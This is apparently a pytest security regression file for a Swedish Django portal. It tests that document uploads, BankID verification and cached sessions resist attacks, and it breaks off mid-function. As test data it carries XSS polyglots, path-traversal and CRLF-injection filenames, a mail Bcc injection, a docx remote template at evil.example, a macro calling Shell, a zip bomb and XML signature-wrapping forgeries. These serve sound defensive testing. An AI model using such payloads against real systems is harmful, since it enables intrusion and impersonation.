"""Session 22 attack pass (attacker's role) on the features integrated today: documents in the
organisation application, BankID step-up and the linked BankID with the verification of
BankID's answer, and sessions kept in the cache.

Attacks the portal refuses stay here as regression tests. What got through is marked
`xfail(strict=True, reason="finding: ...")`: the test states the behaviour the portal should
have, so it starts passing (and then fails as XPASS, to be unmarked) once the finding is fixed.
"""

from __future__ import annotations

import base64
import datetime
import io
import json
import re
import zipfile
from importlib import import_module
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509 import ocsp
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from django.conf import settings
from django.core import mail
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from lov_portal.accounts import bankid
from lov_portal.accounts.models import BankIDLink
from lov_portal.accounts.services import bankid_link, bankid_unlink
from lov_portal.audit.models import AuditEvent
from lov_portal.bankid.client import encode
from lov_portal.bankid.simulator import Simulator, SimulatorCA
from lov_portal.bankid.verify import SignatureInvalid, verify_completion
from organisations import services
from organisations.models import (
    ApplicationDocument,
    ApplicationReview,
    Membership,
    ReviewAction,
)
from tests.accounts.factories import UserFactory
from tests.accounts.test_security import PASSWORD, verified
from tests.agreements.factories import reauthenticate
from tests.organisations.factories import MembershipFactory, OrganisationApplicationFactory
from tests.organisations.test_documents import PDF, _ask_for, _documents_url, _pdf, _stored_files
from tests.permissions import make_staff_with_mfa

pytestmark = pytest.mark.django_db

HX = {"HTTP_HX_REQUEST": "true"}
PNO = "198507099805"
OTHER_PNO = "199001019802"


# --- Helpers ------------------------------------------------------------------------------------


def _zip(entries: dict[str, bytes], *, first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        names = list(entries)
        if first:
            archive.writestr(zipfile.ZipInfo(first), entries[first], zipfile.ZIP_STORED)
            names.remove(first)
        for name in names:
            archive.writestr(name, entries[name])
    return buffer.getvalue()


DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)


def _docx(extra: dict[str, bytes] | None = None) -> bytes:
    entries = {
        "[Content_Types].xml": DOCX_TYPES,
        "word/document.xml": b"<w:document/>",
        "_rels/.rels": b"<Relationships/>",
    }
    entries.update(extra or {})
    return _zip(entries)


def _reply_url(application) -> str:
    return reverse("organisations:reply", args=[application.organisation.slug])


def _add(application, admin, upload=None, kind="statutes") -> ApplicationDocument:
    return services.application_document_add(
        application=application, kind=kind, upload=upload or _pdf(), uploaded_by=admin
    )


def _download(client, document):
    return client.get(reverse("organisations:document_download", args=[document.pk]))


def _delete(client, document):
    return client.post(reverse("organisations:document_delete", args=[document.pk]))


# === 1. Documents in the organisation application ===============================================

# --- IDOR on download and delete ----------------------------------------------------------------


def test_a_former_member_can_no_longer_download_or_see_the_documents(client, applying):
    application, admin, member = applying
    document = _add(application, admin)
    client.force_login(member)
    assert _download(client, document).status_code == 200
    Membership.objects.filter(user=member).delete()
    assert _download(client, document).status_code == 404
    assert client.get(_documents_url(application)).status_code == 404


def test_a_plain_member_staff_and_a_stranger_cannot_delete_a_document(client, applying):
    application, admin, member = applying
    document = _add(application, admin)
    for who, status in [(member, 403), (make_staff_with_mfa(), 403), (UserFactory(), 404)]:
        client.force_login(who)
        assert _delete(client, document).status_code == status, who
    client.logout()
    response = _delete(client, document)
    assert response.status_code == 302 and "/konto/login/" in response["Location"]
    # A GET never deletes.
    client.force_login(admin)
    assert (
        client.get(reverse("organisations:document_delete", args=[document.pk])).status_code == 405
    )
    assert ApplicationDocument.objects.filter(pk=document.pk).exists()
    assert len(_stored_files()) == 1


def test_guessed_document_numbers_answer_404_alike(client, applying):
    application, admin, _member = applying
    document = _add(application, admin)
    client.force_login(UserFactory())
    existing = _download(client, document)
    missing = client.get(reverse("organisations:document_download", args=[document.pk + 1]))
    assert existing.status_code == missing.status_code == 404
    huge = client.get(f"/organisationer/dokument/{2**70}/")
    assert huge.status_code == 404


def test_an_admin_of_another_organisation_cannot_upload_into_or_reply_to_this_application(
    client, applying
):
    application, _admin, _member = applying
    _ask_for(application, "")
    other = OrganisationApplicationFactory()
    MembershipFactory(user=other.applicant, organisation=other.organisation, role="admin")
    client.force_login(other.applicant)
    upload = client.post(_documents_url(application), {"kind": "statutes", "file": _pdf()})
    assert upload.status_code == 404
    reply = client.post(
        _reply_url(application), {"message": "Jag svarar åt dem.", "kind": "statutes"}
    )
    assert reply.status_code == 403
    assert ApplicationDocument.objects.count() == 0
    assert not ApplicationReview.objects.filter(action=ReviewAction.APPLICANT_REPLY).exists()
    assert _stored_files() == []


@pytest.mark.parametrize("action", [ReviewAction.REJECT, ReviewAction.APPROVE])
def test_nothing_can_be_uploaded_or_replied_after_the_decision(client, applying, action):
    application, admin, _member = applying
    _ask_for(application, "statutes")
    services.application_review(
        application=application,
        reviewer=make_staff_with_mfa(),
        action=action,
        reason="Beslut.",
    )
    client.force_login(admin)
    upload = client.post(_documents_url(application), {"kind": "statutes", "file": _pdf()})
    assert upload.status_code == 403
    reply = client.post(
        _reply_url(application), {"message": "Sent svar.", "kind": "statutes", "file": _pdf()}
    )
    assert reply.status_code == 403
    # Straight to the service, past the views: still refused.
    with pytest.raises(Exception, match="redan beslutad"):
        _add(application, admin)
    assert ApplicationDocument.objects.count() == 0
    assert _stored_files() == []


# --- Hostile files ------------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bild.png", SVG),
        ("bild.svg", SVG),
        ("stadgar.pdf", b"  %PDF-1.4 <html><script>alert(1)</script>"),
        ("stadgar.pdf", b"<!doctype html><html>%PDF-1.4</html>"),
        ("stadgar.html", b"%PDF-1.4\n<html><script>alert(1)</script>"),
        ("stadgar.docx", b"%PDF-1.4 not a zip"),
        ("stadgar.docx", _docx({"word/vbaProject.bin": b"macro"})),
        ("stadgar.docx", _docx({"word/VBAPROJECT.BIN": b"macro"})),
        ("stadgar.pdf", b"MZ%PDF-1.4"),
        ("stadgar.exe", b"%PDF-1.4"),
        ("stadgar.pdf.exe", PDF),
        ("stadgar.txt", b"plain text"),
        ("stadgar.odt", _docx()),
    ],
    ids=[
        "svg-as-png",
        "svg",
        "html-behind-spaces",
        "html-with-pdf-inside",
        "pdf-named-html",
        "not-a-zip-docx",
        "docx-macros",
        "docx-macros-upper",
        "exe-magic",
        "exe-name",
        "double-extension",
        "txt-not-allowed",
        "docx-named-odt",
    ],
)
def test_hostile_files_are_refused_and_nothing_is_saved(client, applying, name, content):
    application, admin, _member = applying
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 400
    assert "error-summary" in response.content.decode()
    assert ApplicationDocument.objects.count() == 0
    assert _stored_files() == []


def test_a_zip_bomb_docx_is_refused_without_inflating_it(client, applying):
    application, admin, _member = applying
    bomb = _docx({"word/bomb.xml": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile("stadgar.docx", bomb)},
    )
    assert response.status_code == 400
    assert "arkiv med för många delar" in response.content.decode()
    assert ApplicationDocument.objects.count() == 0


def test_an_oversized_file_is_refused_with_a_swedish_message(client, applying):
    application, admin, _member = applying
    client.force_login(admin)
    big = _pdf(content=PDF + b" " * (10 * 1024 * 1024))
    response = client.post(_reply_url(application), {"message": "x"})  # not asked: 403
    assert response.status_code == 403
    response = client.post(_documents_url(application), {"kind": "statutes", "file": big})
    assert response.status_code == 400
    assert "högst 10,0" in response.content.decode()
    assert _stored_files() == []


def test_a_pdf_html_polyglot_is_only_ever_served_as_a_pdf_attachment(client, applying):
    """A PDF may contain anything after its header; the defence is how it is served."""
    application, admin, _member = applying
    polyglot = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>"
    document = _add(application, admin, _pdf("stadgar.pdf", polyglot))
    client.force_login(admin)
    response = _download(client, document)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    # The stored file is not reachable under MEDIA_URL either.
    assert client.get(f"{settings.MEDIA_URL}{document.file.name}").status_code == 404


@pytest.mark.parametrize(
    "name",
    [
        "stadgar\u202efdp.exe.pdf",
        "stadgar\x00.html.pdf",
        "stadgar\r\nX-Injected: 1\r\n.pdf",
        'stad"gar;filename=evil.html;.pdf',
        "..\\..\\..\\etc\\passwd.pdf",
        "../../settings.py.pdf",
        "%2e%2e%2fstadgar.pdf",
        "\u2028stadgar\u0085.pdf",
    ],
    ids=["rtl-override", "nul", "crlf", "quote-semicolon", "backslash-path", "path", "pct", "ls"],
)
def test_hostile_names_never_reach_the_headers_or_the_file_system(client, applying, name):
    application, admin, _member = applying
    document = _add(application, admin, _pdf(name))
    assert document.file.name.startswith("applications/")
    assert (
        Path(settings.MEDIA_ROOT, document.file.name)
        .resolve()
        .is_relative_to(Path(settings.MEDIA_ROOT).resolve() / "applications")
    )
    for forbidden in ("\u202e", "\x00", "\r", "\n", "/", "\\", '"', ";", "\u2028", "\x85"):
        assert forbidden not in document.original_name
    client.force_login(admin)
    response = _download(client, document)
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "X-Injected" not in response
    assert "\r" not in disposition and "\n" not in disposition
    # One quoted (or RFC 5987-encoded) name: no second parameter smuggled in.
    assert re.fullmatch(r"attachment; filename(\*=utf-8''[^;\s\"]+|=\"[^\"\\]*\")", disposition)
    page = client.get(_documents_url(application))
    assert page.status_code == 200


def test_a_long_name_cannot_give_the_download_another_extension(client, applying):
    application, admin, _member = applying
    polyglot = b"%PDF-1.4\n<html><script>alert(document.domain)</script></html>"
    name = "a" * 196 + ".htm" + "b" * 51 + ".pdf"
    assert len(name) == 255  # Django keeps upload names to 255 characters, extension first
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile(name, polyglot)},
    )
    assert response.status_code == 302
    document = ApplicationDocument.objects.get()
    disposition = _download(client, document)["Content-Disposition"]
    assert disposition.rstrip('"').endswith(".pdf"), disposition


_EXTERNAL_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    b'formats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.'
    b'example/macros.dotm" TargetMode="External"/></Relationships>'
)
_RENAMED_VBA = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.'
    b'com/office/2006/relationships/vbaProject" Target="innocent.bin"/></Relationships>'
)


@pytest.mark.parametrize(
    "extra",
    [
        {"word/_rels/settings.xml.rels": _EXTERNAL_TEMPLATE},
        {"word/_rels/document.xml.rels": _RENAMED_VBA, "word/innocent.bin": b"\xd0\xcf"},
    ],
    ids=["remote-template", "renamed-vba-project"],
)
def test_a_docx_that_fetches_or_carries_macros_is_refused(client, applying, extra):
    application, admin, _member = applying
    docx = _docx(extra)
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile("stadgar.docx", docx)},
    )
    assert response.status_code == 400
    assert ApplicationDocument.objects.count() == 0


def _odt_with_macro() -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest:manifest/>",
            "Basic/Standard/Module1.xml": b'<script:module>Sub Main Shell("calc") End Sub'
            b"</script:module>",
            "Basic/script-lc.xml": b"<library:libraries/>",
        },
        first="mimetype",
    )


def test_an_odt_with_macros_is_refused(client, applying):
    application, admin, _member = applying
    client.force_login(admin)
    response = client.post(
        _documents_url(application),
        {"kind": "statutes", "file": SimpleUploadedFile("stadgar.odt", _odt_with_macro())},
    )
    assert response.status_code == 400
    assert ApplicationDocument.objects.count() == 0


# --- CSRF, double submit ------------------------------------------------------------------------


def test_the_document_posts_need_the_csrf_token(applying):
    application, admin, _member = applying
    document = _add(application, admin)
    _ask_for(application, "")
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(admin)
    posts = [
        (_documents_url(application), {"kind": "statutes", "file": _pdf("annat.pdf")}),
        (reverse("organisations:document_delete", args=[document.pk]), {}),
        (_reply_url(application), {"message": "Utan token."}),
    ]
    for url, data in posts:
        assert browser.post(url, data).status_code == 403, url
    assert list(ApplicationDocument.objects.values_list("pk", flat=True)) == [document.pk]
    assert not ApplicationReview.objects.filter(action=ReviewAction.APPLICANT_REPLY).exists()


def test_a_reply_submitted_twice_is_saved_once_and_leaves_no_stray_file(client, applying):
    application, admin, _member = applying
    _ask_for(application, "statutes")
    client.force_login(admin)
    data = {"message": "Stadgarna.", "kind": "statutes"}
    first = client.post(_reply_url(application), {**data, "file": _pdf()})
    assert first.status_code == 302
    second = client.post(_reply_url(application), {**data, "file": _pdf()})
    assert second.status_code == 403  # no longer asked for more information
    # Past the view (two requests racing past the permission check): the service refuses.
    with pytest.raises(Exception, match="Ingen komplettering"):
        services.application_reply(
            application=application,
            author=admin,
            message="igen",
            upload=_pdf(),
            kind="statutes",
        )
    assert ApplicationReview.objects.filter(action=ReviewAction.APPLICANT_REPLY).count() == 1
    assert ApplicationDocument.objects.count() == 1
    assert len(_stored_files()) == 1


# --- The staff notice ---------------------------------------------------------------------------


def test_an_organisation_name_cannot_inject_mail_headers(client):
    import importlib

    from tests.organisations.factories import application_details

    seed = importlib.import_module("organisations.migrations.0002_vasternorrland_municipalities")
    from organisations.models import Municipality

    for code, name, province in seed.MUNICIPALITIES:
        Municipality.objects.get_or_create(
            code=code,
            defaults={"name": name, "province": province, "county": "Västernorrlands län"},
        )
    client.force_login(UserFactory())
    response = client.post(
        reverse("organisations:apply"),
        application_details(name="Förening\r\nBcc: evil@attack.example"),
    )
    assert response.status_code == 200
    assert "error-summary" in response.content.decode()
    assert not [m for m in mail.outbox if "evil@attack.example" in str(m.bcc)]


def _reviewer_awaiting_a_reply(client, applying, email: str):
    """A staff member (`email`, with MFA) who asked the applicant for more information; the
    outbox is emptied and the client logged in as the organisation's administrator, to reply."""
    application, admin, _member = applying
    staff = make_staff_with_mfa(email=email)
    _ask_for(application, "")
    mail.outbox.clear()
    client.force_login(admin)
    return staff


def _staff_notice_html(staff) -> str:
    """The HTML of the one notice sent to this staff member."""
    (notice,) = [m for m in mail.outbox if m.to == [staff.email]]
    return notice.alternatives[0][0]


def test_a_reply_cannot_forge_a_link_in_the_staff_notice(
    client, applying, django_capture_on_commit_callbacks
):
    application, _admin, _member = applying
    staff = _reviewer_awaiting_a_reply(client, applying, "granskare@attack.example.se")
    forged = (
        "Se bifogat.\n\nAnsökan väntar på granskning:\n"
        "https://lov-portalen.evil.example/organisationer/granskning/1/"
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(_reply_url(application), {"message": forged}).status_code == 302
    assert 'href="https://lov-portalen.evil.example' not in _staff_notice_html(staff)


def test_a_document_that_answered_a_request_cannot_be_taken_back_after_the_reply(client, applying):
    application, admin, _member = applying
    _ask_for(application, "statutes")
    client.force_login(admin)
    assert (
        client.post(_documents_url(application), {"kind": "statutes", "file": _pdf()}).status_code
        == 302
    )
    document = ApplicationDocument.objects.get()
    # The reply needs no file: "one of its kind was uploaded after the request".
    assert client.post(_reply_url(application), {"message": "Se stadgarna."}).status_code == 302
    _delete(client, document)
    assert ApplicationDocument.objects.filter(pk=document.pk).exists()


# === 2. BankID: the linked BankID, the step-up, and the checks of BankID's answer ===============


def _url(name: str) -> str:
    return reverse(f"accounts:{name}")


def _start_link(client, user) -> dict:
    client.force_login(user)
    reauthenticate(client, user)
    assert client.post(_url("bankid_link_start"))["Location"] == _url("bankid_order")
    return dict(client.session[bankid.SESSION_KEY])


def _start_step_up(client, user) -> dict:
    client.force_login(user)
    assert client.post(_url("bankid_step_up_start"))["Location"] == _url("bankid_order")
    return dict(client.session[bankid.SESSION_KEY])


def _bankid_reauthenticated(client) -> bool:
    methods = client.session.get("account_authentication_methods", [])
    return any(m.get("method") == bankid.AUTH_METHOD for m in methods)


def _linked_user(email: str, name: str, personal_number: str = PNO):
    """A user whose account has this person's BankID linked."""
    user = UserFactory(email=email)
    bankid_link(user=user, personal_number=personal_number, name=name)
    return user


def _collect_refused_as_unverified(client) -> None:
    page = client.post(_url("bankid_collect"), **HX).content.decode()
    assert "kunde inte kontrolleras" in page
    assert not _bankid_reauthenticated(client)


def _put_order(client, order: dict) -> None:
    session = client.session
    session[bankid.SESSION_KEY] = order
    session.save()


def _approved_order(client, simulator, start, email: str, name: str) -> tuple[object, dict]:
    """A user with this person's BankID linked, logged in on the client, and the order `start`
    began for them (`_start_link` or `_start_step_up`), approved in the app by that same person."""
    user = _linked_user(email, name)
    order = start(client, user)
    simulator.approve(order["order_ref"], personal_number=PNO, name=name)
    return user, order


def test_a_bankid_already_linked_to_another_account_cannot_be_linked_again(client, simulator):
    _linked_user("forsta@attack.example.se", "Per Persson")
    second = UserFactory(email="andra@attack.example.se")
    order = _start_link(client, second)
    simulator.approve(order["order_ref"], personal_number=PNO, name="Per Persson")
    page = client.post(_url("bankid_collect"), **HX).content.decode()
    assert not BankIDLink.objects.filter(user=second).exists()
    assert "redan kopplat till ett annat konto" in page
    assert AuditEvent.objects.filter(
        action="account.bankid_link_refused", object_id=str(second.pk)
    ).exists()


def test_the_step_up_takes_only_the_linked_persons_bankid(client, simulator):
    user = _linked_user("justerare@attack.example.se", "Jonas Justerare")
    order = _start_step_up(client, user)
    simulator.approve(order["order_ref"], personal_number=OTHER_PNO, name="Testa Testsson")
    page = client.post(_url("bankid_collect"), **HX).content.decode()
    assert "inte det som är kopplat" in page
    assert not _bankid_reauthenticated(client)
    # The refused order is forgotten: collecting again finds nothing.
    again = client.post(_url("bankid_collect"), **HX).content.decode()
    assert "Det finns ingen pågående legitimering." in again
    assert not _bankid_reauthenticated(client)


def test_another_users_completed_order_does_not_step_this_user_up(client, simulator):
    """Even if an attacker got another user's (completed) orderRef into their own session,
    the signed text names the other account, and the number is not the attacker's link."""
    victim, victims_order = _approved_order(
        client, simulator, _start_step_up, "offer@attack.example.se", "Olle Offer"
    )

    # Even with the same BankID linked to the attacker's account (one BankID links to one
    # account, so the victim's link goes first).
    bankid_unlink(user=victim)
    attacker = _linked_user("angripare@attack.example.se", "Olle Offer")
    attacker_client = Client()
    attacker_client.force_login(attacker)
    _put_order(attacker_client, {**victims_order, "user_id": attacker.pk})
    _collect_refused_as_unverified(attacker_client)


def test_a_link_order_cannot_be_collected_as_a_step_up(client, simulator):
    _user, order = _approved_order(
        client, simulator, _start_link, "syfte@attack.example.se", "Sara Syfte"
    )
    # Switch the purpose the order was started for (the text BankID signed says "Koppla").
    session = client.session
    session["account_authentication_methods"] = []
    session.save()
    _put_order(client, {**order, "purpose": bankid.STEP_UP})
    _collect_refused_as_unverified(client)


def test_a_completed_order_is_used_once(client, simulator):
    _approved_order(client, simulator, _start_step_up, "en-gang@attack.example.se", "Eva Engång")
    done = client.post(_url("bankid_collect"), **HX)
    assert done.status_code == 204
    assert _bankid_reauthenticated(client)
    assert bankid.SESSION_KEY not in client.session
    again = client.post(_url("bankid_collect"), **HX).content.decode()
    assert "Det finns ingen pågående legitimering." in again


@pytest.mark.parametrize("how", ["expired", "cancelled", "user-cancel", "no-order"])
def test_an_expired_cancelled_or_missing_order_steps_nobody_up(client, simulator, clock, how):
    user = _linked_user(f"{how}@attack.example.se", "Ulf Utgången")
    if how == "no-order":
        client.force_login(user)
    else:
        order = _start_step_up(client, user)
        if how == "expired":
            clock.now += 181
        elif how == "cancelled":
            assert client.post(_url("bankid_cancel")).status_code == 302
        else:
            simulator.refuse(order["order_ref"], "userCancel")
    client.post(_url("bankid_collect"), **HX)
    assert not _bankid_reauthenticated(client)
    assert bankid.SESSION_KEY not in client.session


def test_the_bankid_posts_need_login_and_the_csrf_token(simulator):
    user = _linked_user("csrf@attack.example.se", "Cecilia Csrf")
    anonymous = Client()
    for name in ("bankid_step_up_start", "bankid_collect", "bankid_cancel", "bankid_unlink"):
        assert anonymous.post(_url(name)).status_code == 302
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)
    for name in ("bankid_step_up_start", "bankid_link_start", "bankid_unlink", "bankid_collect"):
        assert browser.post(_url(name)).status_code == 403, name
    assert BankIDLink.objects.filter(user=user).exists()
    assert not simulator.requests


# --- verify_completion: XML signature and OCSP --------------------------------------------------

VISIBLE = "# LÖV\\-portalen\n\nLegitimering för kontot **x@attack.example.se**."


def _completed(sim: Simulator, visible: str = VISIBLE, pno: str = PNO) -> dict:
    body = {"endUserIp": "192.0.2.1", "userVisibleData": encode(visible)}
    status, answer = sim.handle(
        "/rp/v6.0/auth", "POST", "application/json", json.dumps(body).encode()
    )
    assert status == 200, answer
    sim.approve(answer["orderRef"], personal_number=pno, name="Per Persson")
    return dict(sim.orders[answer["orderRef"]].completion_data)


def _verify(data: dict, ca, visible: str = VISIBLE, **kwargs):
    return verify_completion(
        data,
        user_visible_data=visible,
        user_non_visible_data="",
        trusted=[ca.certificate],
        **kwargs,
    )


def _xml(data: dict) -> str:
    return base64.b64decode(data["signature"]).decode()


def _with_xml(data: dict, xml: str) -> dict:
    return {**data, "signature": base64.b64encode(xml.encode()).decode()}


def test_signature_wrapping_is_refused(simulator):
    data = _completed(simulator)
    assert _verify(data, simulator.ca).personal_number == PNO
    xml = _xml(data)
    ns = 'xmlns="http://www.bankid.com/signature/v1.0.0/types"'
    forged_data = f"<usrNonVisibleData>{encode('forged')}</usrNonVisibleData>"
    attempts = {
        # A second, unsigned usrNonVisibleData inside the signed element (breaks the digest).
        "inside": xml.replace("<srvInfo>", forged_data + "<srvInfo>"),
        # The signed element moved away, a forged one (same Id) where the portal reads.
        "moved": xml.replace(
            "<Object>",
            f'<Object><bankIdSignedData {ns} Id="bidSignedData">{forged_data}'
            "<srvInfo/></bankIdSignedData></Object><Object><Wrapper>",
        ).replace("</Object></Signature>", "</Wrapper></Object></Signature>"),
        # A second signed-data element without an Id in another Object.
        "second-object": xml.replace(
            "</Signature>",
            f"<Object><bankIdSignedData {ns}>{forged_data}</bankIdSignedData></Object></Signature>",
        ),
        # Another element carrying the Id the reference points at.
        "duplicate-id": xml.replace(
            "</Signature>", '<Object><x Id="bidSignedData"/></Object></Signature>'
        ),
        # The KeyInfo swapped for another person's certificate.
        "keyinfo": xml.replace(
            xml[xml.index("<X509Certificate>") : xml.index("</X509Certificate>")],
            "<X509Certificate>"
            + base64.b64encode(
                simulator.ca.person(OTHER_PNO, "Testa Testsson")[1].public_bytes(
                    serialization.Encoding.DER
                )
            ).decode(),
        ),
    }
    for name, forged in attempts.items():
        with pytest.raises(SignatureInvalid):
            _verify(_with_xml(data, forged), simulator.ca)
            pytest.fail(name)


def test_a_certificate_issued_by_a_persons_own_bankid_is_refused(simulator):
    """An attacker's own (real) BankID certificate and key used as a CA for another number."""
    attacker_key, attacker_certificate = simulator.ca.person(OTHER_PNO, "Anna Angripare")
    rogue = SimulatorCA(attacker_key, attacker_certificate)
    data = _completed(Simulator(clock=simulator.clock, ca=rogue))
    with pytest.raises(SignatureInvalid, match=r"not a CA|does not chain"):
        _verify(data, simulator.ca)


_IN_AN_HOUR = object()


def _ocsp(ca, certificate, *, this_update=None, next_update=_IN_AN_HOUR, responder=None) -> str:
    """An OCSP answer "good" about `certificate`, signed by the CA or by `responder` (a key
    and certificate, sent along in the answer)."""
    now = datetime.datetime.now(datetime.UTC)
    key, signer = responder or (ca.key, ca.certificate)
    builder = (
        ocsp.OCSPResponseBuilder()
        .add_response(
            cert=certificate,
            issuer=ca.certificate,
            algorithm=hashes.SHA1(),  # noqa: S303
            cert_status=ocsp.OCSPCertStatus.GOOD,
            this_update=this_update or now,
            next_update=now + datetime.timedelta(hours=1)
            if next_update is _IN_AN_HOUR
            else next_update,
            revocation_time=None,
            revocation_reason=None,
        )
        .responder_id(ocsp.OCSPResponderEncoding.HASH, signer)
    )
    if responder:
        builder = builder.certificates([signer])
    response = builder.sign(key, hashes.SHA256())
    return base64.b64encode(response.public_bytes(serialization.Encoding.DER)).decode()


@pytest.mark.parametrize(
    ("produced_days_ago", "next_update_in_days", "match"),
    [
        # Out of date by its own next update.
        pytest.param(3, -2, "out of date", id="out-of-date"),
        # A year-old "good" answer is stale whether it names no next update or a far one.
        pytest.param(365, None, None, id="stale-no-next-update"),
        pytest.param(365, 3650, None, id="stale-far-next"),
    ],
)
def test_an_out_of_date_or_stale_good_ocsp_answer_is_refused(
    simulator, produced_days_ago, next_update_in_days, match
):
    data = _completed(simulator)
    now = datetime.datetime.now(datetime.UTC)
    _key, certificate = simulator.ca.person(PNO, "Per Persson")
    data["ocspResponse"] = _ocsp(
        simulator.ca,
        certificate,
        this_update=now - datetime.timedelta(days=produced_days_ago),
        next_update=None
        if next_update_in_days is None
        else now + datetime.timedelta(days=next_update_in_days),
    )
    with pytest.raises(SignatureInvalid, match=match):
        _verify(data, simulator.ca)


def test_a_comment_cannot_shorten_the_signed_text_the_portal_reads(simulator):
    expected = "# LÖV\\-portalen\n\nLegitimering för kontot **x@attack.example.se**!!!"
    assert len(expected.encode()) % 3 == 0  # so its base64 is a prefix of a longer text's
    signed = expected + " och godkänner allt annat också"
    data = _completed(simulator, visible=signed)
    xml = _xml(data)
    prefix = encode(expected)
    assert encode(signed).startswith(prefix)
    forged = xml.replace(f">{encode(signed)}<", f">{prefix}<!---->{encode(signed)[len(prefix) :]}<")
    assert forged != xml
    with pytest.raises(SignatureInvalid):
        _verify(_with_xml(data, forged), simulator.ca, visible=expected)


# === 3. Sessions in the cache ===================================================================

CACHED_DB = "django.contrib.sessions.backends.cached_db"


@pytest.fixture
def cached_sessions(settings):
    """Sessions in the cache as in production with Redis (with REDIS_URL set, the cache is
    Redis; without it, the per-process cache stands in)."""
    settings.SESSION_ENGINE = CACHED_DB
    cache.clear()
    yield
    cache.clear()


def _device(user, password: str = PASSWORD) -> Client:
    device = Client()
    response = device.post(reverse("account_login"), {"login": user.email, "password": password})
    assert response.status_code == 302, response
    assert _logged_in(device)
    return device


def _logged_in(device: Client) -> bool:
    response = device.get(reverse("privacy:overview"))
    return response.status_code == 200


def _session_key(device: Client) -> str:
    return device.cookies[settings.SESSION_COOKIE_NAME].value


def _session_exists(key: str) -> bool:
    return import_module(settings.SESSION_ENGINE).SessionStore().exists(key)


def test_erasing_the_account_on_its_page_ends_every_session(cached_sessions):
    user = verified(UserFactory(email="radera@attack.example.se"))
    here, elsewhere = _device(user), _device(user)
    keys = [_session_key(here), _session_key(elsewhere)]
    response = here.post(reverse("privacy:account_delete"), {"confirm": "on", "password": PASSWORD})
    assert response.status_code == 302, response.content.decode()[:500]
    user.refresh_from_db()
    assert not user.is_active
    assert not _logged_in(here) and not _logged_in(elsewhere)
    assert not any(_session_exists(key) for key in keys)
    # The old cookie, replayed in a fresh client, is no session either.
    replay = Client()
    replay.cookies[settings.SESSION_COOKIE_NAME] = keys[1]
    assert not _logged_in(replay)


def test_a_deactivated_account_s_old_cookie_no_longer_logs_in(cached_sessions):
    user = verified(UserFactory(email="avstangd@attack.example.se"))
    device = _device(user)
    user.is_active = False
    user.save(update_fields=["is_active"])
    assert not _logged_in(device)


def test_reactivating_an_account_does_not_revive_its_old_sessions(cached_sessions):
    user = verified(UserFactory(email="atervand@attack.example.se"))
    stolen = _device(user)
    key = _session_key(stolen)
    user.is_active = False
    user.save(update_fields=["is_active"])
    assert not _logged_in(stolen)
    user.is_active = True
    user.save(update_fields=["is_active"])
    replay = Client()
    replay.cookies[settings.SESSION_COOKIE_NAME] = key
    assert not _logged_in(replay)


def test_changing_the_password_ends_the_other_sessions_and_keeps_this_one(cached_sessions):
    user = verified(UserFactory(email="nytt-losen@attack.example.se"))
    here, elsewhere = _device(user), _device(user)
    old_key = _session_key(elsewhere)
    new_password = "ett-helt-annat-batteri-42"
    response = here.post(
        reverse("account_change_password"),
        {"oldpassword": PASSWORD, "password1": new_password, "password2": new_password},
    )
    assert response.status_code == 302, response.content.decode()[:500]
    assert _logged_in(here)
    assert not _logged_in(elsewhere)
    replay = Client()
    replay.cookies[settings.SESSION_COOKIE_NAME] = old_key
    assert not _logged_in(replay)


def test_logging_out_other_sessions_ends_them_in_the_cache_too(cached_sessions):
    user = verified(UserFactory(email="andra-enheter@attack.example.se"))
    here, elsewhere, third = _device(user), _device(user), _device(user)
    keys = [_session_key(elsewhere), _session_key(third)]
    response = here.post(reverse("usersessions_list"))
    assert response.status_code == 302
    assert _logged_in(here)
    assert not _logged_in(elsewhere) and not _logged_in(third)
    assert not any(_session_exists(key) for key in keys)
    # A request of the ended session still in flight cannot write it back into the cache.
    for key in keys:
        replay = Client()
        replay.cookies[settings.SESSION_COOKIE_NAME] = key
        assert not _logged_in(replay)
        assert not _session_exists(key)


def _responder_certificate(ca, *, valid_days: tuple[int, int], ocsp_signing: bool = True):
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    now = datetime.datetime.now(datetime.UTC)
    builder = (
        x509.CertificateBuilder()
